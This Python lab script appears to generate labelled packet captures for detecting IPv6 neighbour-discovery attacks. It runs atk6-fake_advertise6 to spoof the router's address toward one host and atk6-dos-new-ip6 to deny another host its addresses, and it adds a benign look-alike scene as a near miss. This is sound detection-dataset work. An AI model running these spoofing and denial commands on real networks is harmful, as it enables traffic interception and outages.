"""Attacks among neighbours by IPv6: false advertisements, addresses that are refused; and the ordinary traffic that resembles them."""

import subprocess
import time

from lab import Capture, Lab
from office import MACS
from registry import Sample, scene

EVE_MAC = '08:00:27:5e:66:66'
ROUTER, ALICE = 'fd00:10::1', 'fd00:10::21'


class Link:
    """A router and three hosts on one switch, with IPv6 addresses only."""

    def __init__(self, lab: Lab):
        self.switch = lab.switch()
        for name, mac, last in (('router', MACS['router'], '1'), ('alice', MACS['alice'], '21'), ('bob', MACS['bob'], '22'), ('intruder', EVE_MAC, '66')):
            host = lab.host(name, ipv6=True)
            lab.plug(host, self.switch, mac)
            host.address(f'fd00:10::{last}/64')
            setattr(self, name, host)
        # Its own link-local addresses, tested by the system.
        time.sleep(2.5)


@scene(Sample(
    'ndp-spoofing.pcap', 'atk6-fake_advertise6 tells alice that the router is at the card of the intruder, and atk6-dos-new-ip6 refuses bob every address he tries.',
    'Neighbour advertisements with the override flag, in the name of the router, every five seconds; then five addresses that bob wants to take, each claimed at once by an invented card.',
    ['`ndp-spoofing`, technique claim: fd00:10::1 is claimed by 08:00:27:5e:66:66 (ATT&CK T1557)', '`ndp-spoofing`, technique denial: five addresses are refused', 'no `rogue-router`'],
    ['icmpv6.nd.na.target_address == fd00:10::1 && eth.src == 08:00:27:5e:66:66 | the lies', 'ipv6.src == :: && icmpv6.type == 135 | bob asks whether an address is free']))
def ndp_spoofing(lab: Lab) -> None:
    link = Link(lab)
    with Capture(link.switch, 'ndp-spoofing.pcap', 'tcpdump', '-i', 'br0'):
        for host in (link.alice, link.bob):
            host.run('ping', '-c', '2', '-i', '0.3', ROUTER)
        link.intruder.run('timeout', '-s', 'INT', '12', 'atk6-fake_advertise6', '-r', 'eth0', ROUTER, ALICE)
        link.alice.run('ping', '-c', '2', '-i', '0.3', '-W', '1', ROUTER)
        refuse = link.intruder.spawn('atk6-dos-new-ip6', 'eth0', show='atk6-dos-new-ip6 eth0')
        time.sleep(1)
        for last in range(1, 6):
            link.bob.run('ip', 'address', 'add', f'fd00:10::b{last}/64', 'dev', 'eth0')
            time.sleep(0.8)
        time.sleep(1)
        subprocess.run(['pkill', '-INT', '-P', str(refuse.pid)], check=False)
        refuse.terminate()


@scene(Sample(
    'ndp-new-card.pcap', 'A host gets a new network card and says so, another takes twelve addresses, and a third tries one that is taken. Near miss of NDP spoofing.',
    'bob goes down and comes back with another MAC, announcing his address (unsolicited neighbour advertisement); alice takes twelve addresses of her own; bob tries alice\'s first address, and she says that it is hers.',
    ['no `ndp-spoofing`: one address moved once, and the old card is silent from then on; one address was refused by its owner', 'no `host-sweep`'],
    ['icmpv6.type == 136 && icmpv6.nd.na.flag.s == 0 | announcements']))
def ndp_new_card(lab: Lab) -> None:
    link = Link(lab)
    with Capture(link.switch, 'ndp-new-card.pcap', 'tcpdump', '-i', 'br0'):
        link.alice.run('ping', '-c', '2', '-i', '0.3', 'fd00:10::22')
        link.bob.note('ip link set eth0 down; ip link set eth0 address 00:1b:21:5c:b0:99; sysctl net.ipv6.conf.eth0.ndisc_notify=1; ip link set eth0 up')
        link.bob.quiet('ip', 'link', 'set', 'eth0', 'down')
        time.sleep(2)
        link.bob.quiet('ip', 'link', 'set', 'eth0', 'address', '00:1b:21:5c:b0:99')
        link.bob.sysctl('net.ipv6.conf.eth0.ndisc_notify', '1')
        link.bob.quiet('ip', 'link', 'set', 'eth0', 'up')
        time.sleep(2)
        link.bob.run('ip', 'address', 'add', 'fd00:10::22/64', 'dev', 'eth0')
        time.sleep(2)
        link.alice.run('ping', '-c', '4', '-i', '0.5', '-W', '1', 'fd00:10::22')
        for last in range(1, 13):
            link.alice.run('ip', 'address', 'add', f'fd00:10::a{last:x}/64', 'dev', 'eth0')
        time.sleep(2)
        for last in range(1, 13):
            link.bob.run('ping', '-c', '1', '-W', '1', f'fd00:10::a{last:x}')
        link.bob.run('ip', 'address', 'add', f'{ALICE}/64', 'dev', 'eth0')
        time.sleep(2)
